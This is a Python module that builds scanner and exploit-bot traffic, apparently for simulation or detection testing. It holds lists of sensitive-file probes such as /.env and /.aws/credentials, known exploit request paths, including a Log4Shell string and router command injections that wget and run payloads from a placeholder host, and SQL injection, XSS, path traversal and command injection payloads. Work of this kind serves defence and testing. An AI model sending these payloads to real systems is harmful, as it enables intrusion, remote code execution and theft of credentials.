"""What scanners, exploit bots and injection probers ask for: our own word lists."""

from random import Random
from typing import Final

_FOLDERS: Final = (
    "admin old new test dev backup tmp web site wp blog cms shop api v1 v2 app portal config data files upload "
    "uploads images include includes lib src public private secret internal staging beta demo server system"
)
FOLDERS: Final = tuple(_FOLDERS.split())
_NAMES: Final = (
    "index login admin config setup install test info phpinfo shell cmd backup db dump database users user upload "
    "manager console status debug error main default home search api settings wp-config connect mysql sql data "
    "license readme changelog release version update upgrade register account panel dashboard control editor file "
    "files export import report stats monitor health proxy gateway ajax cron mail contact form download"
)
NAMES: Final = tuple(_NAMES.split())
_EXTENSIONS: Final = ".php .php .php .asp .aspx .jsp .txt .bak .old .zip .sql .json .xml .yml .tar.gz"
EXTENSIONS: Final = tuple(_EXTENSIONS.split())
PROBES: Final = (
    "/.env", "/.git/config", "/.git/HEAD", "/.svn/entries", "/.aws/credentials", "/.DS_Store", "/.vscode/sftp.json",
    "/wp-login.php", "/wp-admin/setup-config.php", "/wp-config.php.bak", "/phpmyadmin/index.php", "/pma/index.php",
    "/adminer.php", "/server-status", "/actuator/env", "/actuator/heapdump", "/solr/admin/info/system", "/phpinfo.php",
    "/info.php", "/config.json", "/docker-compose.yml", "/backup.zip", "/backup.sql", "/db.sql", "/dump.sql",
    "/web.config", "/.htpasswd", "/id_rsa", "/console/", "/manager/html", "/jmx-console/", "/api/v1/pods", "/owa/",
    "/debug/pprof/", "/telescope/requests", "/_ignition/health-check", "/.well-known/security.txt", "/admin/config.php",
)  # fmt: skip
EXPLOITS: Final = (
    ("POST", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh"),
    ("GET", "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)"),
    ("POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"),
    ("GET", "/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=x"),
    ("POST", "/boaform/admin/formLogin"),
    ("GET", "/?x=${jndi:ldap://198.51.100.7:1389/a}"),
    ("GET", "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=wget+http://198.51.100.7/m+-O+/tmp/m&curpath=/"),
    ("POST", "/GponForm/diag_Form?images/"),
    ("GET", "/actuator/gateway/routes"),
    ("GET", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession"),
    ("GET", "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd"),
    ("GET", "/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.7/jaws;sh+/tmp/jaws"),
    ("POST", "/HNAP1/"),
    ("GET", "/solr/admin/cores?wt=json"),
    ("POST", "/api/jsonws/invoke"),
    ("GET", "/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/"),
    ("GET", "/?lang=../../../../../../../../usr/local/lib/php/pearcmd&+config-create+/&/<?=md5(1)?>+/tmp/i.php"),
    ("POST", "/wls-wsat/CoordinatorPortType"),
    ("GET", "/autodiscover/autodiscover.json?@zdi/Powershell"),
    ("GET", "/${%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%29%29}/"),
    ("GET", "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php"),
    ("GET", "/.env"),
    ("POST", "/goform/set_LimitClient_cfg"),
    ("GET", "/geoserver/web/"),
)  # fmt: skip
_INJECTIONS: Final = (
    "1'+OR+'1'%3D'1", "1+UNION+SELECT+NULL,NULL,version()--", "1'+AND+SLEEP(5)--+-", "%27%20or%201=1--",
    "1;WAITFOR+DELAY+'0:0:5'--", "<script>alert({n})</script>", "%22%3E%3Csvg/onload=alert({n})%3E",
    "../../../../../../etc/passwd", "..%2f..%2f..%2f..%2fetc%2fpasswd", "....//....//....//etc/passwd",
    "%252e%252e%252fetc%252fpasswd", "file:///etc/hosts", "php://filter/convert.base64-encode/resource=index.php",
    "{{7*7}}", "${7*{n}}", ";id", "|cat+/etc/passwd", "$(sleep+5)", "`id`", "{n}' ORDER BY {m}-- -",
    "{n} AND (SELECT {m} FROM(SELECT COUNT(*),CONCAT(0x71,FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.TABLES)a)",
    "%0d%0aSet-Cookie:x={n}", "http://198.51.100.7/r.txt?", "-{n}+UNION+ALL+SELECT+{m},{m},{m}#",
)  # fmt: skip
_PARAMETERS: Final = "id q page cat search file path lang item product ref sort view name url user"
PARAMETERS: Final = tuple(_PARAMETERS.split())


def scan_path(random: Random) -> str:
    """Return a path that a scanner tries: a known one, or one made of its words."""
    if random.random() < 0.3:
        return random.choice(PROBES)
    folder = f"/{random.choice(FOLDERS)}" if random.random() < 0.6 else ""
    return f"{folder}/{random.choice(NAMES)}{random.choice(EXTENSIONS)}"


def injection(random: Random) -> str:
    """Return a value that tries to break out of a parameter."""
    text = random.choice(_INJECTIONS)
    return text.replace("{n}", str(random.randint(1, 9999))).replace("{m}", str(random.randint(1, 40)))
